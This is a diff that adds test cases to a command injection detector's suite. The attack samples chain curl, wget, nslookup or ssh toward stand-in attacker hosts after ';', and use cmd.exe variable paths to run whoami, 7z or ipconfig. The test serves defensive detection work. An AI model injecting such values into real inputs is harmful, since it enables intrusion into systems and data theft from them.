@@ -78,3 +78,20 @@ describe('OS command injection detector', () => {
     for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
   });
 });
+
+describe('a command after ; whose one argument is a host name', () => {
+  // `curl example.com` alone is a command line (cmdi-args.ts hostArgEnds); after ';' it chains onto the command the value was put in
+  const attacks = ['x;curl evil.example', 'x;wget evil.example', 'x;nslookup abc.attacker.example', 'x; ssh attacker.example', 'x;curl 203.0.113.5;'];
+  for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
+  // a sentence goes on after the host, or the command names a tool in a list
+  const benign = ['Ideas: use vim; curl is fine too', 'I use emacs; wget example.com is slow here', 'Mirrors: ftp.example.org; curl example.org works as well'];
+  for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
+});
+
+describe('a cmd.exe variable opening the command path', () => {
+  // %SystemRoot%, %windir%, %ProgramFiles% expand to folders: the command is the path's last name
+  const attacks = ['x & %SystemRoot%\\system32\\whoami.exe', 'x && %ProgramFiles%\\7-Zip\\7z.exe a c:\\x.7z c:\\', '%windir%\\system32\\whoami', 'x|%WINDIR%/System32/ipconfig /all'];
+  for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
+  const benign = ['%COMPUTERNAME% and %USERNAME% are shown in the title bar', 'Save to %APPDATA%\\MyApp\\settings.ini', 'Files in %USERPROFILE%\\Documents & Settings are kept', 'Cost went up 50% & then 20%'];
+  for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
+});
